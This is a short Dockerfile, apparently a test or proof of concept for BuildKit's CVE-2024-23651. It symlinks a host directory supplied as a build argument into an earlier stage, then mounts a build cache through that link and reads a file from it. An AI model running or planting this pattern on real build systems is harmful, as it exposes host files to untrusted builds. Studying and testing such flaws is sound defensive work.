# A cache is filled from behind a link to a directory of the machine (BuildKit's CVE-2024-23651 raced for the same).
ARG BASE
FROM ${BASE} AS other
ARG HOST_DIRECTORY
RUN ln -s "$HOST_DIRECTORY" /led
FROM ${BASE}
RUN --mount=type=cache,target=/cache,from=other,source=/led/directory cat /cache/file
